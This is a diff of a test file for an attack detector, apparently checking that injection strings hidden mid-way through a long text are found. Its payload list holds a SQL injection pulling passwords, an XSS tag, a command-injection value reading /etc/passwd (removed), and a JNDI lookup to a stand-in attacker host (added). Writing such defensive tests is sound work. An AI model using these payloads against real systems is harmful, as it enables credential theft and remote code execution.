@@ -95,7 +95,7 @@ it.each(TEXTS.flatMap(([what, text]) => SHAPES.map(([as, shape]) => [what, as, s
   },
 );
 
-it.each(["' union select password from users -- ", '<script>alert(1)</script>', '; cat /etc/passwd'])(
+it.each(["' union select password from users -- ", '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}'])(
   'an attack in the middle of a long text is found: %s',
   async (attack) => {
     const prose = repeat(PROSE, 150_000, ' ');
